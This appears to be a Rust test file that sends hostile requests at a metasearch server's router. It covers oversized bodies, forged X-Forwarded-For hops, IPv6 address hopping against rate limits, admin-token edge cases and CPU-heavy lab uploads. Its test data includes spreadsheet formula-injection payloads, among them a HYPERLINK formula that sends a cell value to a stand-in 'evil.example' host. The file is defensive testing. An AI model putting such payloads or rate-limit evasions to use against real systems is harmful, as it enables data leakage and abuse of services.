@@ -1,0 +1,397 @@
+//! Hostile clients against the real router (#12): a body over the limit
+//! asking for JSON, engine titles that are spreadsheet formulas in
+//! `format=csv`, forged `X-Forwarded-For` hops and IPv6 address hopping
+//! against the rate limit, an empty configuration by reload, a trailing
+//! newline in the admin token, and `/lab` uploads that cost quadratic CPU
+//! (too many pairs, too many runs, a client that leaves mid-sweep).
+
+#[path = "support/mod.rs"]
+mod support;
+
+use std::io::{Read, Write};
+use std::net::SocketAddr;
+use std::path::Path;
+use std::time::{Duration, Instant};
+
+use axum::body::Body;
+use axum::extract::ConnectInfo;
+use axum::http::{Request, StatusCode, header};
+use http_body_util::BodyExt;
+use metasift::config::Config;
+use metasift::web::{self, AppState};
+use support::LoopbackEngine;
+use tower::ServiceExt;
+
+/// A config over one searxng-kind engine at `base`, plus `extra` tables.
+fn config_text(base: &str, extra: &str) -> String {
+    format!(
+        "{extra}\n[[engine]]\nname = \"e\"\nkind = \"searxng\"\n\
+         url = \"{base}/search?q={{query}}\"\ntimeout_ms = 1500\n"
+    )
+}
+
+fn app_with(base: &str, extra: &str) -> axum::Router {
+    let config = Config::parse(&config_text(base, extra), Path::new("t.toml")).unwrap();
+    web::router(AppState::serving(config, None, None).unwrap())
+}
+
+async fn send(app: &axum::Router, req: Request<Body>) -> (StatusCode, header::HeaderMap, String) {
+    let resp = app.clone().oneshot(req).await.unwrap();
+    let (parts, body) = resp.into_parts();
+    let bytes = body.collect().await.unwrap().to_bytes();
+    (
+        parts.status,
+        parts.headers,
+        String::from_utf8_lossy(&bytes).into_owned(),
+    )
+}
+
+#[tokio::test]
+async fn a_body_over_the_limit_is_refused_in_json_when_json_was_asked() {
+    let app = app_with("http://127.0.0.1:9", "");
+    let big = format!("q={}", "a".repeat(300 * 1024));
+    let req = Request::post("/search?format=json")
+        .header(header::CONTENT_TYPE, "application/x-www-form-urlencoded")
+        .body(Body::from(big))
+        .unwrap();
+    let (status, headers, body) = send(&app, req).await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE);
+    assert!(
+        headers[header::CONTENT_TYPE]
+            .to_str()
+            .unwrap()
+            .starts_with("application/json"),
+        "{headers:?}"
+    );
+    let json: serde_json::Value = serde_json::from_str(&body).expect("a JSON error body");
+    assert!(
+        json["error"].as_str().unwrap().contains("larger than"),
+        "{json}"
+    );
+}
+
+#[tokio::test]
+async fn csv_cells_from_engines_cannot_be_formulas() {
+    let engine = LoopbackEngine::spawn(support::test_page(&[
+        (
+            "https://a.example/1",
+            "=HYPERLINK(\"https://evil.example/?\"&A1,\"click\")",
+            "+SUM(1,2)",
+        ),
+        ("https://b.example/2", "@cmd", "-2+3 is a formula too"),
+    ]))
+    .await;
+    let app = app_with(&engine.base_url(), "");
+    let req = Request::get("/search?q=formula&format=csv")
+        .body(Body::empty())
+        .unwrap();
+    let (status, _, text) = send(&app, req).await;
+    assert_eq!(status, StatusCode::OK, "{text}");
+    let mut reader = csv::Reader::from_reader(text.as_bytes());
+    let mut cells = 0;
+    for row in reader.records() {
+        for cell in row.unwrap().iter() {
+            cells += 1;
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula cell: {cell:?}\n{text}"
+            );
+        }
+    }
+    assert!(cells >= 14, "{text}");
+    assert!(text.contains("'=HYPERLINK("), "{text}");
+    assert!(text.contains("'@cmd"), "{text}");
+}
+
+/// A `/search` from `peer` with these `X-Forwarded-For` headers.
+fn search_from(peer: &str, xff: &[&str]) -> Request<Body> {
+    let mut req = Request::get("/search?q=limits&format=json");
+    for h in xff {
+        req = req.header("x-forwarded-for", *h);
+    }
+    let mut req = req.body(Body::empty()).unwrap();
+    req.extensions_mut()
+        .insert(ConnectInfo(peer.parse::<SocketAddr>().unwrap()));
+    req
+}
+
+#[tokio::test]
+async fn forged_forwarded_hops_and_ipv6_neighbours_share_one_budget() {
+    let engine =
+        LoopbackEngine::spawn(support::test_page(&[("https://a.example/1", "A", "a")])).await;
+    let app = app_with(
+        &engine.base_url(),
+        "[limits]\nper_minute = 1\nburst = 1\ntrust_forwarded = true",
+    );
+    // Behind a proxy on this host that appends the address it saw: the
+    // client writes a new first hop every time, the proxy's hop is its own.
+    let (status, _, body) = send(
+        &app,
+        search_from("127.0.0.1:40001", &["1.1.1.1, 198.51.100.9"]),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK, "{body}");
+    let (status, _, _) = send(
+        &app,
+        search_from("127.0.0.1:40002", &["2.2.2.2, 198.51.100.9"]),
+    )
+    .await;
+    assert_eq!(
+        status,
+        StatusCode::TOO_MANY_REQUESTS,
+        "a forged first hop made a new client"
+    );
+    // Another real client is not affected.
+    let (status, _, _) = send(
+        &app,
+        search_from("127.0.0.1:40003", &["1.1.1.1, 198.51.100.10"]),
+    )
+    .await;
+    assert_eq!(status, StatusCode::OK);
+    // A client that is not the proxy cannot name anyone.
+    let (status, _, _) = send(&app, search_from("203.0.113.5:5000", &["198.51.100.77"])).await;
+    assert_eq!(status, StatusCode::OK);
+    let (status, _, _) = send(&app, search_from("203.0.113.5:5001", &["198.51.100.78"])).await;
+    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
+    // An IPv6 client hopping addresses inside its /48.
+    let (status, _, _) = send(&app, search_from("[2001:db8:7:1::1]:1", &[])).await;
+    assert_eq!(status, StatusCode::OK);
+    let (status, _, _) = send(&app, search_from("[2001:db8:7:ffff::2]:1", &[])).await;
+    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS);
+}
+
+fn scratch(tag: &str) -> std::path::PathBuf {
+    let dir =
+        std::env::temp_dir().join(format!("metasift-hostile-web-{tag}-{}", std::process::id()));
+    std::fs::create_dir_all(&dir).unwrap();
+    dir
+}
+
+#[tokio::test]
+async fn reload_refuses_an_empty_file_and_a_token_with_a_newline_still_works() {
+    let engine =
+        LoopbackEngine::spawn(support::test_page(&[("https://a.example/1", "A", "a")])).await;
+    let dir = scratch("reload");
+    let path = dir.join("engines.toml");
+    std::fs::write(&path, config_text(&engine.base_url(), "")).unwrap();
+    let config = Config::load(&path).unwrap();
+    // As read from a secrets file: a final newline.
+    let state = AppState::serving(config, Some(path.clone()), Some("s3cret\n".into())).unwrap();
+    let app = web::router(state.clone());
+    let reload = || {
+        Request::post("/admin/reload")
+            .header(header::AUTHORIZATION, "Bearer s3cret")
+            .body(Body::empty())
+            .unwrap()
+    };
+    let (status, _, body) = send(&app, reload()).await;
+    assert_eq!(status, StatusCode::OK, "the token matches: {body}");
+
+    std::fs::write(&path, "").unwrap();
+    let (status, _, body) = send(&app, reload()).await;
+    assert_eq!(status, StatusCode::BAD_REQUEST, "{body}");
+    assert!(
+        body.contains(&format!("{}:1:1: no engine", path.display())),
+        "{body}"
+    );
+    // The running engines stay.
+    assert_eq!(state.searcher().config().engines.len(), 1);
+
+    // An empty token turns the route off.
+    let config = Config::parse(&config_text(&engine.base_url(), ""), &path).unwrap();
+    let off = web::router(AppState::serving(config, Some(path), Some(" \n".into())).unwrap());
+    let (status, _, _) = send(
+        &off,
+        Request::post("/admin/reload")
+            .header(header::AUTHORIZATION, "Bearer ")
+            .body(Body::empty())
+            .unwrap(),
+    )
+    .await;
+    assert_eq!(status, StatusCode::NOT_FOUND);
+}
+
+const BOUNDARY: &str = "----metasifthostile";
+
+/// A multipart `POST /lab` body: text fields and one `upload` file.
+fn lab_body(fields: &[(&str, &str)], file: &[u8]) -> Vec<u8> {
+    let mut body = Vec::new();
+    for (k, v) in fields {
+        body.extend_from_slice(
+            format!("--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"{k}\"\r\n\r\n{v}\r\n")
+                .as_bytes(),
+        );
+    }
+    body.extend_from_slice(
+        format!(
+            "--{BOUNDARY}\r\nContent-Disposition: form-data; name=\"upload\"; filename=\"sets.jsonl\"\r\n\
+             Content-Type: application/octet-stream\r\n\r\n"
+        )
+        .as_bytes(),
+    );
+    body.extend_from_slice(file);
+    body.extend_from_slice(format!("\r\n--{BOUNDARY}--\r\n").as_bytes());
+    body
+}
+
+fn lab_request(peer: &str, fields: &[(&str, &str)], file: &[u8]) -> Request<Body> {
+    let mut req = Request::post("/lab")
+        .header(
+            header::CONTENT_TYPE,
+            format!("multipart/form-data; boundary={BOUNDARY}"),
+        )
+        .body(Body::from(lab_body(fields, file)))
+        .unwrap();
+    req.extensions_mut()
+        .insert(ConnectInfo(peer.parse::<SocketAddr>().unwrap()));
+    req
+}
+
+/// One labeled record set of `n` records (every tenth a copy of the one
+/// before), as JSON Lines.
+fn record_set(query: &str, n: usize) -> Vec<u8> {
+    let mut out = String::new();
+    for i in 0..n {
+        let g = if i % 10 == 9 { i - 1 } else { i };
+        out.push_str(
+            &serde_json::json!({
+                "query": query,
+                "group": format!("g{g}"),
+                "id": i,
+                "url": format!("https://site{g}.example/page/{g}"),
+                "title": format!("Result number {g} about {query}"),
+                "snippet": format!("Snippet {g}: some words about the topic, number {g}, here."),
+            })
+            .to_string(),
+        );
+        out.push('\n');
+    }
+    out.into_bytes()
+}
+
+#[tokio::test]
+async fn lab_refuses_a_set_of_quadratic_cost_naming_it() {
+    let app = app_with("http://127.0.0.1:9", "");
+    // 2,001 records are under the record cap (20,000) but one set of them
+    // is 2,001,000 pairs per setting.
+    let (status, _, page) = send(
+        &app,
+        lab_request("192.0.2.1:1", &[], &record_set("giant", 2001)),
+    )
+    .await;
+    assert_eq!(status, StatusCode::PAYLOAD_TOO_LARGE, "{page}");
+    assert!(page.contains("2001000 record pairs"), "{page}");
+    assert!(
+        page.contains("&quot;giant&quot;")
+            || page.contains("&#34;giant&#34;")
+            || page.contains("\"giant\""),
+        "{page}"
+    );
+}
+
+#[tokio::test]
+async fn lab_sweeps_are_rate_limited_per_client_and_50_points_are_accepted() {
+    let app = app_with(
+        "http://127.0.0.1:9",
+        "[limits]\nlab_per_minute = 1\nlab_burst = 2",
+    );
+    let small = record_set("small", 20);
+    // A 50-point sweep counted after rounding: accepted.
+    let fields = [
+        ("from", "0"),
+        ("to", "1"),
+        ("step", "0.0204"),
+        ("method", "feature-code"),
+    ];
+    let (status, _, page) = send(&app, lab_request("192.0.2.7:1", &fields, &small)).await;
+    assert_eq!(status, StatusCode::OK, "{page}");
+    let (status, _, _) = send(&app, lab_request("192.0.2.7:2", &fields, &small)).await;
+    assert_eq!(status, StatusCode::OK);
+    let (status, headers, page) = send(&app, lab_request("192.0.2.7:3", &fields, &small)).await;
+    assert_eq!(status, StatusCode::TOO_MANY_REQUESTS, "{page}");
+    assert!(headers.contains_key(header::RETRY_AFTER));
+    assert!(page.contains("lab runs"), "{page}");
+    // Another client still may; the form itself is never limited.
+    let (status, _, _) = send(&app, lab_request("192.0.2.8:1", &fields, &small)).await;
+    assert_eq!(status, StatusCode::OK);
+    let mut form = Request::get("/lab").body(Body::empty()).unwrap();
+    form.extensions_mut()
+        .insert(ConnectInfo("192.0.2.7:4".parse::<SocketAddr>().unwrap()));
+    assert_eq!(send(&app, form).await.0, StatusCode::OK);
+}
+
+/// CPU seconds this process has used (all threads; Linux).
+fn process_cpu_seconds() -> Option<f64> {
+    let stat = std::fs::read_to_string("/proc/self/stat").ok()?;
+    let after = &stat[stat.rfind(')')? + 2..];
+    let fields: Vec<&str> = after.split_whitespace().collect();
+    let ticks: f64 = fields.get(11)?.parse::<f64>().ok()? + fields.get(12)?.parse::<f64>().ok()?;
+    Some(ticks / 100.0)
+}
+
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_lab_sweep_stops_when_its_client_goes_away() {
+    if process_cpu_seconds().is_none() {
+        eprintln!("*** SKIPPED: no /proc/self/stat to read CPU time from ***");
+        return;
+    }
+    let config = Config::parse(
+        &config_text("http://127.0.0.1:9", "[limits]\nlab_per_minute = 0"),
+        Path::new("t.toml"),
+    )
+    .unwrap();
+    let app = web::router(AppState::serving(config, None, None).unwrap());
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let addr = listener.local_addr().unwrap();
+    let limits = metasift::config::ConnectionsConfig::default();
+    let server = tokio::spawn(async move {
+        web::serve::serve(listener, app, &limits, std::future::pending()).await
+    });
+    // Just under the pair cap, every method, 50 thresholds: minutes of CPU.
+    let body = lab_body(
+        &[
+            ("from", "0"),
+            ("to", "1"),
+            ("step", "0.0204"),
+            ("method", "feature-code"),
+            ("method", "simhash"),
+            ("method", "rabin"),
+        ],
+        &record_set("large", 1999),
+    );
+    let client = std::thread::spawn(move || {
+        let mut s = std::net::TcpStream::connect(addr).unwrap();
+        s.write_all(
+            format!(
+                "POST /lab HTTP/1.1\r\nHost: x\r\nContent-Type: multipart/form-data; boundary={BOUNDARY}\r\n\
+                 Content-Length: {}\r\n\r\n",
+                body.len()
+            )
+            .as_bytes(),
+        )
+        .unwrap();
+        s.write_all(&body).unwrap();
+        // The sweep has started; the client gives up.
+        s.set_read_timeout(Some(Duration::from_millis(1500)))
+            .unwrap();
+        let mut buf = [0u8; 64];
+        let early = s.read(&mut buf);
+        assert!(
+            early.is_err(),
+            "the sweep answered within 1.5 s, too fast to test: {early:?}"
+        );
+    });
+    client.join().unwrap();
+    // Let the running setting finish, then measure: the work must be over.
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let before = process_cpu_seconds().unwrap();
+    let started = Instant::now();
+    tokio::time::sleep(Duration::from_secs(2)).await;
+    let used = process_cpu_seconds().unwrap() - before;
+    assert!(
+        used < 0.25,
+        "{used:.2} s of CPU in the {:?} after the client left: the sweep went on",
+        started.elapsed()
+    );
+    server.abort();
+}
